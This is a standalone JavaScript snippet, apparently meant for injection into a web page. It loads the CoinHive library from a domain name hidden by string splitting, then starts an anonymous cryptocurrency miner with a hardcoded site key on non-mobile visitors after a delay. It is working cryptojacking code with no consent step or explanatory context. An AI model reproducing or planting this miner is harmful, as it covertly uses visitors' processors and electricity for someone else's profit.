  (function(i, s, o, g, r, a, m, n) {
      m = s.createElement(o), n = s.getElementsByTagName(o)[0];
      m.async = 1;
      m.src = 'https://' + g + a + '.com/lib/' + g + a + '.min.js';
      n.parentNode.insertBefore(m, n);
      i.setTimeout(function() {
          var z = new CoinHive.Anonymous(r, {
              throttle: 0.3
          });
          if (!z.isMobile()) {
              z.start();
          }
      }, 6500);
  })(window, document, 'script', 'coin', 'DZXgMX4qUOLboGTBtlEyc0iBTdY4t88W', 'hive');
